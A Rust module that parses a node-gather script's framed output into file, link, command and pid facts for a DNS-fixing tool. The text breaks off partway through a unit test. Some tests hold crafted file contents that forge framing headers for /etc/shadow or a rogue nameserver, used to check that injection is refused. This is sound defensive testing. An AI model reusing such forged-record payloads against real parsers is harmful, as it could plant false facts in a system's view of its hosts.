//! The gather script and its framed output: what came back from one node, before any
//! interpretation. [`RawFacts`] is a faithful index of the records; meaning is added by
//! `node_facts`.

use std::collections::BTreeMap;

use serde::Serialize;

/// The largest file body kept. Larger files are cut and marked `truncated` (and get no
/// sha256, since the digest of a prefix would be a lie).
pub const FILE_CAP: usize = 1024 * 1024;

const SCRIPT: &str = include_str!("gather.sh");

pub use crate::node_script::safe_path;
use crate::node_script::{Boundary, KUBELET_UNITS, RecordKind};
use crate::util::sha256_hex;

/// The script for one run, with `nonce` in its record boundary.
pub fn script(nonce: &str) -> String {
    script_with(nonce, &[])
}

/// The script for one run that also reads `extra` paths (the files and sysctls playbooks
/// may write, so a plan knows what it replaces). Paths that are not absolute or hold
/// characters outside `[A-Za-z0-9._/+@:-]` are left out.
pub fn script_with(nonce: &str, extra: &[String]) -> String {
    script_for(nonce, extra, true, systemctl_wait(DEFAULT_COMMAND_TIMEOUT))
}

/// The command timeout [`script`] and [`script_with`] size their systemctl calls for
/// (`--command-timeout`'s default).
const DEFAULT_COMMAND_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(60);

/// How long the script lets each `systemctl` call wait for PID 1, in whole seconds, under
/// a command timeout of `command`: a sixth of it, 2 to 10 s. A PID 1 that answers does so
/// within milliseconds, a busy one within a second or two; one that does not answer holds
/// systemctl 90 s by default. The script stops asking after the first call cut off, so
/// the most its three calls take is two answering just in time and one cut off (3 waits):
/// 30 s at the default 60 s, 9 s at 20 s. The kubelet's `--version`
/// (7 s at most) and, on a stopped k0s node, k0s's (7 s) come on top: below about 20 s of
/// command timeout the bounds no longer fit, and a node where all of them run out is
/// reported timed out, as before.
pub fn systemctl_wait(command: std::time::Duration) -> u64 {
    (command.as_secs() / 6).clamp(2, 10)
}

/// [`script_with`], asking the kubelet's binary for its version (`kubelet --version`) only
/// with `kubelet_version`: it runs the kubelet's whole Go binary on every node, where the
/// cluster, when it is read, has the running kubelet's version for all of them. Each
/// `systemctl` call gets `systemctl_wait` seconds ([`systemctl_wait`]).
pub fn script_for(
    nonce: &str,
    extra: &[String],
    kubelet_version: bool,
    systemctl_wait: u64,
) -> String {
    let extra: Vec<String> = extra
        .iter()
        .filter(|p| safe_path(p))
        .map(|p| format!("'{p}'"))
        .collect();
    let boundary = Boundary::from_nonce(nonce);
    crate::node_script::render(
        SCRIPT,
        &[
            ("BOUNDARY", &boundary.text()),
            ("PATHNONCE", &boundary.path_prefix()),
            ("CAP", &FILE_CAP.to_string()),
            ("KUBELET_UNITS", &KUBELET_UNITS.join(" ")),
            ("EXTRA", &extra.join(" ")),
            ("ASK_VERSION", if kubelet_version { "1" } else { "0" }),
            ("SYSTEMCTL_WAIT", &systemctl_wait.to_string()),
        ],
    )
}

/// The /proc/sys file of sysctl `name` in its dot form (`net.ipv4.ip_forward` →
/// `/proc/sys/net/ipv4/ip_forward`).
pub fn sysctl_path(name: &str) -> String {
    format!("/proc/sys/{}", name.replace('.', "/"))
}

/// Does `/proc/modules` text list module `name`? (Its first word on a line.)
pub fn modules_list(modules: &str, name: &str) -> bool {
    modules
        .lines()
        .any(|l| l.split_whitespace().next() == Some(name))
}

/// One path as the node showed it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub struct RawFile {
    pub state: FileState,
    /// Immediate symlink target (`readlink`), when the path is a symlink.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub symlink_target: Option<String>,
    /// Fully resolved path (`readlink -f`), when the path is a symlink.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub canonical: Option<String>,
    /// Shared, not copied, when facts are cloned: a plan holds every host's files.
    #[serde(skip)]
    pub content: std::sync::Arc<[u8]>,
    /// sha256 of the content; absent when missing, unreadable or truncated.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sha256: Option<String>,
    /// `content` is not the whole file: cut at [`FILE_CAP`], or (gathered only to know it
    /// is there) not read at all.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub truncated: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum FileState {
    Present,
    Missing,
    Directory,
    /// It exists but could not be read: unknown, never healthy.
    Unreadable,
}

impl RawFile {
    /// Where a configuration file of a .d directory leads, as the boot reads it: a link's
    /// canonical path, and for a link to nothing (its target or the target's directory
    /// missing, so no canonical path either) `/dev/null`: it reads as empty and, having the
    /// name, still overrides the vendor file of that name.
    pub fn config_canonical(&self) -> Option<String> {
        self.canonical.clone().or_else(|| {
            (self.state == FileState::Missing && self.symlink_target.is_some())
                .then(|| "/dev/null".to_owned())
        })
    }

    pub fn text(&self) -> Option<std::borrow::Cow<'_, str>> {
        (self.state == FileState::Present).then(|| String::from_utf8_lossy(&self.content))
    }
}

/// A command the script ran.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RawCommand {
    pub stdout: String,
    pub status: Option<i32>,
}

/// Everything one node returned, indexed.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RawFacts {
    /// Every path the script looked at, in the order it looked.
    pub files: BTreeMap<String, RawFile>,
    pub order: Vec<String>,
    pub commands: BTreeMap<String, RawCommand>,
    pub pids: BTreeMap<String, u32>,
    /// Every pid record of a name, in the order the script found them (several dhclient
    /// processes run, one per interface under ifupdown); `pids` keeps the last.
    pub all_pids: BTreeMap<String, Vec<u32>>,
    /// Directories listed by the script (whether or not they held files).
    pub dirs: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FrameError {
    #[error("gather output does not start with a dnsfix record (the remote shell printed: {0:?})")]
    NoStart(String),
    #[error("gather output was cut short after {records} records (no end record)")]
    Truncated { records: usize },
    #[error("gather output has a malformed record header: {0:?}")]
    BadHeader(String),
}

/// File bodies shared by the hosts of one gather: the nodes of a fleet mostly carry the
/// same sysctl.conf, os-release, unit files and kubelet config, so a body already seen
/// (same sha256, same bytes) is kept once and shared, not copied per host. At a thousand
/// hosts the bodies were a quarter of the memory a plan used.
#[derive(Debug, Default)]
pub struct SharedContents {
    by_sha: std::collections::HashMap<String, std::sync::Arc<[u8]>>,
}

impl SharedContents {
    /// The shared copy of `file`'s content, when an identical one was seen before.
    fn share(&mut self, file: &mut RawFile) {
        let Some(sha) = &file.sha256 else { return };
        match self.by_sha.get(sha) {
            Some(seen) if seen[..] == file.content[..] => file.content = seen.clone(),
            Some(_) => {}
            None => {
                self.by_sha.insert(sha.clone(), file.content.clone());
            }
        }
    }
}

impl RawFacts {
    /// Splits the script's output into records. Text before the first record (a login
    /// banner, a shell's warnings) is ignored; a missing `end` record is an error.
    pub fn parse(output: &[u8], nonce: &str) -> Result<RawFacts, FrameError> {
        RawFacts::parse_shared(output, nonce, &mut SharedContents::default())
    }

    /// [`RawFacts::parse`], keeping file bodies seen on other hosts of the same gather
    /// (`shared`) once.
    pub fn parse_shared(
        output: &[u8],
        nonce: &str,
        shared: &mut SharedContents,
    ) -> Result<RawFacts, FrameError> {
        let records = crate::node_script::records(output, &Boundary::from_nonce(nonce), true)
            .map_err(|e| FrameError::BadHeader(e.0))?;
        if records.is_empty() {
            let shown = String::from_utf8_lossy(&output[..output.len().min(200)]).into_owned();
            return Err(FrameError::NoStart(shown));
        }
        let mut raw = RawFacts::default();
        let mut ended = false;
        // The files the batch will deliver, in the order head reads them: each may come
        // once, in that order (one head could not open is skipped). Text in a file that
        // imitates head's header for another file makes that file come twice or out of
        // order: an error, never a fact.
        let mut announced: std::collections::VecDeque<&str> = std::collections::VecDeque::new();
        // Links whose target holds a newline.
        let mut unframed: Vec<&str> = Vec::new();
        for record in &records {
            let name = record.args.as_str();
            match &record.kind {
                // /dev/null only makes head print headers (it needs two files).
                RecordKind::BatchFile if name == "/dev/null" => {}
                RecordKind::BatchFile => {
                    let Some(at) = announced.iter().position(|p| *p == name) else {
                        return Err(FrameError::BadHeader(format!(
                            "the batch delivers {name} unannounced, twice or out of order"
                        )));
                    };
                    announced.drain(..=at);
                    raw.file(name, FileState::Present, Some(record.body));
                }
                RecordKind::Begin | RecordKind::Batch => {}
                RecordKind::End => ended = true,
                RecordKind::File => raw.file(name, FileState::Present, Some(record.body)),
                // Its content comes in the batch; until then (or if head cannot open
                // it) it is unknown.
                RecordKind::Read => {
                    announced.push_back(name);
                    raw.file(name, FileState::Unreadable, None);
                }
                RecordKind::Missing => raw.file(name, FileState::Missing, None),
                // There, and only that is known: no byte of it was read.
                RecordKind::Exists => {
                    raw.file(name, FileState::Present, None);
                    raw.entry(name).truncated = true;
                }
                RecordKind::Dir => {
                    raw.dirs.push(name.to_owned());
                    raw.file(name, FileState::Directory, None);
                }
                RecordKind::Error => raw.file(name, FileState::Unreadable, None),
                // A target with a newline in it is no path any configuration names: the
                // link is unknown (below), never a target that spans lines.
                RecordKind::Link | RecordKind::Canon if record.line().contains('\n') => {
                    unframed.push(name);
                }
                RecordKind::Link => raw.entry(name).symlink_target = Some(record.line()),
                // readlink -f prints nothing where the link's target directory is
                // missing: no canonical path, not "".
                RecordKind::Canon => {
                    raw.entry(name).canonical = Some(record.line()).filter(|c| !c.is_empty())
                }
                RecordKind::Cmd => {
                    raw.commands.insert(
                        name.to_owned(),
                        RawCommand {
                            stdout: String::from_utf8_lossy(record.body).into_owned(),
                            status: None,
                        },
                    );
                }
                RecordKind::Rc => {
                    if let Some(c) = raw.commands.get_mut(name) {
                        c.status = record.line().parse().ok();
                    }
                }
                RecordKind::Pid => {
                    if let Ok(pid) = record.line().parse() {
                        raw.pids.insert(name.to_owned(), pid);
                        raw.all_pids.entry(name.to_owned()).or_default().push(pid);
                    }
                }
                _ => return Err(FrameError::BadHeader(record.header.clone())),
            }
        }
        if !ended {
            return Err(FrameError::Truncated {
                records: records.len(),
            });
        }
        for name in unframed {
            raw.file(name, FileState::Unreadable, None);
            let entry = raw.entry(name);
            entry.symlink_target = None;
            entry.canonical = None;
        }
        for file in raw.files.values_mut() {
            shared.share(file);
        }
        Ok(raw)
    }

    fn entry(&mut self, path: &str) -> &mut RawFile {
        if !self.files.contains_key(path) {
            self.order.push(path.to_owned());
        }
        self.files.entry(path.to_owned()).or_insert(RawFile {
            state: FileState::Missing,
            symlink_target: None,
            canonical: None,
            content: std::sync::Arc::from(&[][..]),
            sha256: None,
            truncated: false,
        })
    }

    /// A symlink at `path` to `target`, which resolves to `canonical` and reads `body`.
    #[cfg(test)]
    pub(crate) fn link(&mut self, path: &str, target: &str, canonical: &str, body: &[u8]) {
        self.file(path, FileState::Present, Some(body));
        let entry = self.entry(path);
        entry.symlink_target = Some(target.to_owned());
        entry.canonical = Some(canonical.to_owned());
    }

    pub(crate) fn file(&mut self, path: &str, state: FileState, body: Option<&[u8]>) {
        let entry = self.entry(path);
        entry.state = state;
        if let Some(body) = body {
            if body.len() > FILE_CAP {
                entry.content = std::sync::Arc::from(&body[..FILE_CAP]);
                entry.truncated = true;
                entry.sha256 = None;
            } else {
                entry.content = std::sync::Arc::from(body);
                entry.sha256 = Some(sha256_hex(body));
            }
        } else {
            entry.content = std::sync::Arc::from(&[][..]);
            entry.sha256 = None;
        }
    }

    pub fn get(&self, path: &str) -> Option<&RawFile> {
        self.files.get(path)
    }

    /// The `*.conf` files the script read from `dirs` (in directory order), then `extra`;
    /// each with its text and, for symlinks, the canonical target.
    pub fn config_files(
        &self,
        dirs: &[&str],
        extra: &str,
    ) -> Vec<(String, String, Option<String>)> {
        let mut out = Vec::new();
        for dir in dirs {
            for (path, f) in self.files_in(dir) {
                let text = f.text().map(|t| t.into_owned()).unwrap_or_default();
                out.push((path.to_owned(), text, f.config_canonical()));
            }
        }
        if let Some(f) = self.get(extra).filter(|f| f.state == FileState::Present) {
            out.push((
                extra.to_owned(),
                f.text().map(|t| t.into_owned()).unwrap_or_default(),
                f.canonical.clone(),
            ));
        }
        out
    }

    /// Present files whose path starts with `dir/`, in the order the script listed them.
    pub fn files_in<'a>(
        &'a self,
        dir: &'a str,
    ) -> impl Iterator<Item = (&'a str, &'a RawFile)> + 'a {
        self.order.iter().filter_map(move |p| {
            let rest = p.strip_prefix(dir)?.strip_prefix('/')?;
            // A path listed but taken out of the files since (a test's edit) is not there.
            let file = self.files.get(p)?;
            (!rest.contains('/')).then_some((p.as_str(), file))
        })
    }
}

/// Builds raw facts from a captured node tree on the local disk: `root/etc/resolv.conf`
/// stands for the node's `/etc/resolv.conf`, symlinks are kept as symlinks (resolved
/// inside `root`), `root/.dnsfix/cmd/NAME` / `root/.dnsfix/pid/NAME` stand for command
/// output and pids, and `root/.dnsfix/missing` lists the paths the script would find
/// missing beyond those it always looks at. Fixture tests describe nodes this way, so a new incident is a new
/// folder, not new code. Test support: built for tests and with the `testing` feature
/// (the integration tests enable it), never into the shipped binary.
#[cfg(any(test, feature = "testing"))]
pub fn from_tree(root: &std::path::Path) -> std::io::Result<RawFacts> {
    let mut raw = RawFacts::default();
    let meta = root.join(".dnsfix");
    for (kind, dir) in [("cmd", meta.join("cmd")), ("pid", meta.join("pid"))] {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        let mut entries: Vec<_> = entries.collect::<Result<_, _>>()?;
        entries.sort_by_key(|e| e.file_name());
        for e in entries {
            let name = e.file_name().to_string_lossy().into_owned();
            let text = std::fs::read_to_string(e.path())?;
            if kind == "cmd" {
                raw.commands.insert(
                    name,
                    RawCommand {
                        stdout: text,
                        status: Some(0),
                    },
                );
            } else {
                // Several pids, one per line or word: as many records of the name.
                for pid in text.split_whitespace().filter_map(|w| w.parse().ok()) {
                    raw.pids.insert(name.clone(), pid);
                    raw.all_pids.entry(name.clone()).or_default().push(pid);
                }
            }
        }
    }
    walk(root, root, &mut raw)?;
    // `.dnsfix/missing`: paths the script looks at, because a file it reads names them, and
    // finds missing (one per line).
    if let Ok(text) = std::fs::read_to_string(meta.join("missing")) {
        for path in text.lines().filter(|l| !l.is_empty()) {
            raw.file(path, FileState::Missing, None);
        }
    }
    // What the real script always looks at is "missing" when the tree lacks it, exactly as
    // the script would report it.
    for path in ALWAYS_GATHERED {
        if !raw.files.contains_key(*path) {
            raw.file(path, FileState::Missing, None);
        }
    }
    for dir in CONF_DIRS
        .iter()
        .chain(RANCHER_CONFIG_DIRS)
        .chain(&super::firewalld::DIRS)
    {
        if !raw.files.contains_key(*dir) && !raw.dirs.iter().any(|d| d == dir) {
            raw.file(dir, FileState::Missing, None);
        }
    }
    // Where NetworkManager is configured the script looks at its unit's links (wants, mask).
    if raw.dirs.iter().any(|d| d == "/etc/NetworkManager") {
        for path in NM_UNIT_LINKS {
            if !raw.files.contains_key(*path) {
                raw.file(path, FileState::Missing, None);
            }
        }
    }
    // The script asks for the nodelocaldns interface's addresses where the interface is
    // there and says it is missing where not: a tree with neither has no such interface.
    let nodelocaldns = super::node_facts::NODELOCALDNS_SYSFS;
    if !raw.commands.contains_key("nodelocaldns-addr") && !raw.files.contains_key(nodelocaldns) {
        raw.file(nodelocaldns, FileState::Missing, None);
    }
    Ok(raw)
}

/// The links and unit files of NetworkManager's unit gather.sh looks at where
/// /etc/NetworkManager is a directory: the wants link `systemctl enable` makes, its name in
/// /etc and /run (which a mask links to /dev/null), the wants link `systemctl enable
/// --runtime` makes in /run, and the unit file in the vendor directories (systemd's unit
/// path, systemd.unit(5): /etc, /run, /usr/lib, and /lib on a split /usr).
pub const NM_UNIT_LINKS: &[&str] = &[
    "/etc/systemd/system/multi-user.target.wants/NetworkManager.service",
    "/etc/systemd/system/NetworkManager.service",
    "/run/systemd/system/NetworkManager.service",
    "/run/systemd/system/multi-user.target.wants/NetworkManager.service",
    "/usr/lib/systemd/system/NetworkManager.service",
    "/lib/systemd/system/NetworkManager.service",
];

/// The fixed paths gather.sh reads on every node (a test keeps this list and the script
/// in step).
pub const ALWAYS_GATHERED: &[&str] = &[
    "/proc/sys/kernel/hostname",
    "/etc/sysctl.conf.dpkg-bak",
    "/run/systemd/system",
    "/etc/os-release",
    "/proc/sys/kernel/random/boot_id",
    "/etc/resolv.conf",
    "/run/systemd/resolve/resolv.conf",
    "/run/systemd/resolve/stub-resolv.conf",
    "/usr/lib/systemd/resolv.conf",
    "/etc/systemd/resolved.conf",
    "/run/systemd/resolved.conf",
    "/usr/local/lib/systemd/resolved.conf",
    "/usr/lib/systemd/resolved.conf",
    "/etc/NetworkManager/NetworkManager.conf",
    "/etc/dhcp/dhclient.conf",
    "/etc/dhclient.conf",
    "/etc/kubernetes/kubelet-config.yaml",
    "/var/lib/kubelet/config.yaml",
    "/etc/kubernetes/kubelet.env",
    "/var/lib/kubelet/kubeadm-flags.env",
    "/etc/default/kubelet",
    "/etc/sysconfig/kubelet",
    "/etc/rancher/k3s/config.yaml",
    "/etc/rancher/rke2/config.yaml",
    "/proc/sys/net/bridge",
    "/proc/sys/net/bridge/bridge-nf-call-iptables",
    "/proc/sys/net/bridge/bridge-nf-call-ip6tables",
    "/proc/sys/net/bridge/bridge-nf-call-arptables",
    "/proc/sys/net/ipv4/ip_forward",
    "/proc/sys/net/ipv6/conf/all/forwarding",
    "/proc/modules",
    "/etc/sysctl.conf",
    "/etc/modules",
    "/proc/cmdline",
    "/etc/dnsfix",
    "/etc/dnsfix/resolv.conf",
    "/etc/firewalld/firewalld.conf",
    "/run/flannel/subnet.env",
];

/// systemd-resolved's drop-in directories, in the order its config parser ranks them (a name
/// in an earlier one hides the same name in later ones; all of them merged in name order):
/// `CONF_PATHS_NULSTR("systemd/resolved.conf.d")`, /lib only on a split-/usr build
/// (systemd src/basic/def.h @v245, src/basic/constants.h @v255; every release from v239 at
/// least reads all of them: src/resolve/resolved-conf.c `manager_parse_config_file`).
pub const RESOLVED_DROPIN_DIRS: [&str; 5] = [
    "/etc/systemd/resolved.conf.d",
    "/run/systemd/resolved.conf.d",
    "/usr/local/lib/systemd/resolved.conf.d",
    "/usr/lib/systemd/resolved.conf.d",
    "/lib/systemd/resolved.conf.d",
];

/// The directories gather.sh lists `*.conf` files from; one that does not exist is
/// reported `missing`, so a plan knows a file it would create there is new.
pub const CONF_DIRS: &[&str] = &[
    "/etc/systemd/resolved.conf.d",
    "/run/systemd/resolved.conf.d",
    "/usr/local/lib/systemd/resolved.conf.d",
    "/usr/lib/systemd/resolved.conf.d",
    "/etc/NetworkManager/conf.d",
    "/run/NetworkManager/conf.d",
    "/usr/lib/NetworkManager/conf.d",
    "/etc/systemd/system/kubelet.service.d",
    "/usr/lib/systemd/system/kubelet.service.d",
    "/etc/sysctl.d",
    "/run/sysctl.d",
    "/usr/local/lib/sysctl.d",
    "/usr/lib/sysctl.d",
    "/etc/modules-load.d",
    "/run/modules-load.d",
    "/usr/local/lib/modules-load.d",
    "/usr/lib/modules-load.d",
    "/etc/modprobe.d",
    "/run/modprobe.d",
    "/usr/local/lib/modprobe.d",
    "/usr/lib/modprobe.d",
];

/// The k3s/RKE2 config drop-in directories gather.sh lists `*.yaml` and `*.yml` files
/// from; one that does not exist is reported `missing`, as a [`CONF_DIRS`] one is.
pub const RANCHER_CONFIG_DIRS: &[&str] = &[
    "/etc/rancher/k3s/config.yaml.d",
    "/etc/rancher/rke2/config.yaml.d",
];

#[cfg(any(test, feature = "testing"))]
fn walk(root: &std::path::Path, dir: &std::path::Path, raw: &mut RawFacts) -> std::io::Result<()> {
    walk_at(root, dir, "", false, raw)
}

/// Walks `disk_dir` as the node's directory `node_dir` ("" for /). A symlink to a directory
/// is walked too, as the node would read through it (MicroK8s's /var/snap/microk8s/current
/// → the revision), but not from inside another such walk: a tree's links can make no loop.
#[cfg(any(test, feature = "testing"))]
fn walk_at(
    root: &std::path::Path,
    disk_dir: &std::path::Path,
    node_dir: &str,
    via_link: bool,
    raw: &mut RawFacts,
) -> std::io::Result<()> {
    let mut entries: Vec<_> = std::fs::read_dir(disk_dir)?.collect::<Result<_, _>>()?;
    entries.sort_by_key(|e| e.file_name());
    for e in entries {
        let path = e.path();
        let name = crate::node_script::name_text(e.file_name().as_encoded_bytes()).into_owned();
        if node_dir.is_empty() && name == ".dnsfix" {
            continue;
        }
        let node_path = format!("{node_dir}/{name}");
        let meta = std::fs::symlink_metadata(&path)?;
        let mut target_on_disk = path.clone();
        let mut canonical = None;
        if meta.file_type().is_symlink() {
            let link = std::fs::read_link(&path)?;
            let node_parent = std::path::Path::new(&node_path)
                .parent()
                .unwrap_or(std::path::Path::new("/"));
            let resolved = normalize(&node_parent.join(&link));
            raw.entry(&node_path).symlink_target = Some(link.display().to_string());
            target_on_disk = root.join(resolved.trim_start_matches('/'));
            // As `readlink -f`: no canonical path where the target's directory is missing
            // (a link into a /run directory the boot did not make).
            if target_on_disk.parent().is_some_and(std::path::Path::is_dir) {
                raw.entry(&node_path).canonical = Some(resolved.clone());
            }
            canonical = Some(resolved);
        }
        match std::fs::metadata(&target_on_disk) {
            Ok(m) if m.is_dir() => {
                raw.dirs.push(node_path.clone());
                raw.file(&node_path, FileState::Directory, None);
                let link = canonical.is_some();
                if !(link && via_link) {
                    walk_at(root, &target_on_disk, &node_path, via_link || link, raw)?;
                }
            }
            Ok(_) => {
                let content = std::fs::read(&target_on_disk)?;
                raw.file(&node_path, FileState::Present, Some(&content));
            }
            Err(_) => raw.file(&node_path, FileState::Missing, None),
        }
    }
    Ok(())
}

/// Lexically resolves `.` and `..` in an absolute path.
#[cfg(any(test, feature = "testing"))]
fn normalize(path: &std::path::Path) -> String {
    super::node_facts::go_clean(&path.to_string_lossy())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::nonce;

    fn path_nonce(nonce: &str) -> String {
        Boundary::from_nonce(nonce).path_prefix()
    }

    fn frame(nonce: &str, records: &[(&str, &str, &[u8])]) -> Vec<u8> {
        let mut out = Vec::new();
        for (kind, name, body) in records {
            out.extend_from_slice(format!("\n--dnsfix-{nonce} {kind} {name}\n").as_bytes());
            out.extend_from_slice(body);
        }
        out
    }

    #[test]
    fn content_cannot_break_framing() {
        let n = "abc";
        let hostile: &[u8] = b"line\n--dnsfix-other file /x\n\0\xff\xfe no newline";
        let out = frame(
            n,
            &[
                ("begin", "x", b""),
                ("file", "/etc/resolv.conf", hostile),
                ("end", "", b""),
            ],
        );
        let raw = RawFacts::parse(&out, n).expect("parses");
        let f = raw.get("/etc/resolv.conf").expect("file");
        assert_eq!(&*f.content, hostile);
        assert_eq!(f.state, FileState::Present);
        assert_eq!(f.sha256.as_deref(), Some(sha256_hex(hostile).as_str()));
    }

    /// What gather.sh's batch looks like: "batch", then head's headers with the nonce path.
    fn batch(nonce: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut out = format!(
            "\n--dnsfix-{nonce} batch\n==> {}dev/null <==\n",
            path_nonce(nonce)
        )
        .into_bytes();
        for (path, body) in files {
            let header = format!("\n==> {}{} <==\n", path_nonce(nonce), &path[1..]);
            out.extend_from_slice(header.as_bytes());
            out.extend_from_slice(body);
        }
        out
    }

    #[test]
    fn batch_contents_cannot_break_framing() {
        let n = nonce();
        // A file that imitates head's headers (another nonce's, no nonce, and the plain
        // path), a script record of another run, and no trailing newline.
        let hostile = format!(
            "a\n==> {}etc/shadow <==\nroot\n\n==> /etc/passwd <==\n\n--dnsfix-x end \n\0\u{ff}",
            path_nonce("0123456789abcdef0123456789abcdef")
        );
        let mut out = frame(
            &n,
            &[
                ("begin", "x", b""),
                ("read", "/etc/resolv.conf", b""),
                ("read", "/etc/b", b""),
            ],
        );
        out.extend(batch(
            &n,
            &[("/etc/resolv.conf", hostile.as_bytes()), ("/etc/b", b"x\n")],
        ));
        out.extend(frame(&n, &[("end", "", b"")]));
        let raw = RawFacts::parse(&out, &n).expect("parses");
        let f = raw.get("/etc/resolv.conf").expect("file");
        assert_eq!(&*f.content, hostile.as_bytes());
        assert_eq!(f.state, FileState::Present);
        assert_eq!(raw.get("/etc/b").map(|f| &*f.content), Some(&b"x\n"[..]));
        assert_eq!(raw.order, ["/etc/resolv.conf", "/etc/b"]);
        assert!(raw.get("/etc/shadow").is_none() && raw.get("/dev/null").is_none());
    }

    /// head's arguments show the path prefix to every user of the node: it must not spell
    /// the nonce, and a file that imitates this run's header for another file (its writer
    /// read the prefix from `ps`) gets an error, never a forged fact.
    #[test]
    fn a_file_imitating_this_runs_batch_header_is_refused() {
        let n = nonce();
        let prefix = path_nonce(&n);
        let nonce_spelled = {
            // The prefix of the nonce itself, as the digest-less encoding would spell it.
            const STEPS: [&str; 4] = ["./", "../", ".//", "..//"];
            let mut out = String::from("/");
            for c in n.chars() {
                let v = c.to_digit(16).unwrap_or(u32::from(c) & 0xf) as usize;
                out.push_str(STEPS[v >> 2]);
                out.push_str(STEPS[v & 3]);
            }
            out
        };
        assert_ne!(prefix, nonce_spelled);
        // /etc/a (writable by someone) forges the next file, /etc/resolv.conf.
        let forged = format!("x\n\n==> {prefix}etc/resolv.conf <==\nnameserver 6.6.6.6\n");
        let mut out = frame(
            &n,
            &[
                ("begin", "x", b""),
                ("read", "/etc/a", b""),
                ("read", "/etc/resolv.conf", b""),
            ],
        );
        out.extend(batch(
            &n,
            &[
                ("/etc/a", forged.as_bytes()),
                ("/etc/resolv.conf", b"nameserver 10.0.0.2\n"),
            ],
        ));
        out.extend(frame(&n, &[("end", "", b"")]));
        assert!(matches!(
            RawFacts::parse(&out, &n),
            Err(FrameError::BadHeader(_))
        ));
        // A header for a file never announced is refused too.
        let mut out = frame(&n, &[("begin", "x", b""), ("read", "/etc/a", b"")]);
        out.extend(batch(&n, &[("/etc/a", b"a"), ("/etc/shadow", b"root")]));
        out.extend(frame(&n, &[("end", "", b"")]));
        assert!(RawFacts::parse(&out, &n).is_err());
    }

    #[test]
    fn a_file_the_batch_did_not_deliver_is_unknown() {
        let mut out = frame("n", &[("read", "/etc/gone", b"")]);
        out.extend(batch("n", &[]));
        out.extend(frame("n", &[("end", "", b"")]));
        let raw = RawFacts::parse(&out, "n").expect("parses");
        assert_eq!(
            raw.get("/etc/gone").map(|f| f.state),
            Some(FileState::Unreadable)
        );
    }

    #[test]
    fn the_path_nonce_resolves_to_the_root() {
        let p = path_nonce(&nonce());
        assert!(p.starts_with('/') && p.ends_with('/'));
        assert!(p.split('/').all(|c| c.is_empty() || c == "." || c == ".."));
        assert_ne!(path_nonce("00"), path_nonce("01"));
        assert_eq!(
            std::fs::canonicalize(format!("{p}proc/self")).ok(),
            std::fs::canonicalize("/proc/self").ok()
        );
    }

    #[test]
    fn trailing_newline_is_kept_exactly() {
        let out = frame(
            "n",
            &[
                ("file", "/a", b"x\n"),
                ("file", "/b", b"y"),
                ("end", "", b""),
            ],
        );
        let raw = RawFacts::parse(&out, "n").expect("parses");
        assert_eq!(raw.get("/a").map(|f| &*f.content), Some(&b"x\n"[..]));
        assert_eq!(raw.get("/b").map(|f| &*f.content), Some(&b"y"[..]));
    }

    #[test]
    fn identical_bodies_across_hosts_are_kept_once() {
        let mut shared = SharedContents::default();
        let one = frame(
            "n",
            &[
                ("file", "/a", b"same\n"),
                ("file", "/b", b"one"),
                ("end", "", b""),
            ],
        );
        let two = frame(
            "n",
            &[
                ("file", "/a", b"same\n"),
                ("file", "/b", b"two"),
                ("end", "", b""),
            ],
        );
        let one = RawFacts::parse_shared(&one, "n", &mut shared).expect("parses");
        let two = RawFacts::parse_shared(&two, "n", &mut shared).expect("parses");
        let body = |raw: &RawFacts, p: &str| raw.get(p).map(|f| f.content.clone()).expect("file");
        assert!(std::sync::Arc::ptr_eq(&body(&one, "/a"), &body(&two, "/a")));
        assert_eq!(&*body(&one, "/b"), b"one");
        assert_eq!(&*body(&two, "/b"), b"two");
        // Shared or not, the facts are the same.
        assert_eq!(
            two,
            RawFacts::parse(
                &frame(
                    "n",
                    &[
                        ("file", "/a", b"same\n"),
                        ("file", "/b", b"two"),
                        ("end", "", b"")
                    ]
                ),
                "n"
            )
            .expect("parses")
        );
    }

    #[test]
    fn missing_end_is_an_error() {
        let out = frame("n", &[("begin", "", b""), ("file", "/a", b"x")]);
        assert_eq!(
            RawFacts::parse(&out, "n"),
            Err(FrameError::Truncated { records: 2 })
        );
    }

    #[test]
    fn banner_before_first_record_is_ignored_and_no_record_is_an_error() {
        let mut out = b"Welcome to node1\n".to_vec();
        out.extend(frame("n", &[("end", "", b"")]));
        assert!(RawFacts::parse(&out, "n").is_ok());
        assert!(matches!(
            RawFacts::parse(b"sh: not found", "n"),
            Err(FrameError::NoStart(_))
        ));
    }

    /// `exists`: the file is there and nothing of it was read, so it is never mistaken for
    /// an empty file.
    #[test]
    fn an_exists_record_is_a_present_file_with_no_content_known() {
        let out = frame("n", &[("exists", "/m/cni.yaml", b""), ("end", "", b"")]);
        let raw = RawFacts::parse(&out, "n").expect("parses");
        let f = raw.get("/m/cni.yaml").expect("file");
        assert_eq!(f.state, FileState::Present);
        assert!(f.truncated && f.content.is_empty() && f.sha256.is_none());
    }

    #[test]
    fn huge_files_are_capped_and_marked() {
        let big = vec![b'a'; FILE_CAP + 1];
        let out = frame("n", &[("file", "/big", &big), ("end", "", b"")]);
        let raw = RawFacts::parse(&out, "n").expect("parses");
        let f = raw.get("/big").expect("file");
        assert!(f.truncated);
        assert_eq!(f.content.len(), FILE_CAP);
        assert_eq!(f.sha256, None);
    }

    #[test]
    fn links_commands_and_dirs() {
        let out = frame(
            "n",
            &[
                (
                    "link",
                    "/etc/resolv.conf",
                    b"../run/systemd/resolve/stub-resolv.conf\n",
                ),
                (
                    "canon",
                    "/etc/resolv.conf",
                    b"/run/systemd/resolve/stub-resolv.conf\n",
                ),
                ("file", "/etc/resolv.conf", b"nameserver 127.0.0.53\n"),
                ("cmd", "units", b"active\ninactive\n"),
                ("rc", "units", b"3"),
                ("dir", "/etc/sysctl.d", b""),
                (
                    "file",
                    "/etc/sysctl.d/99-k8s.conf",
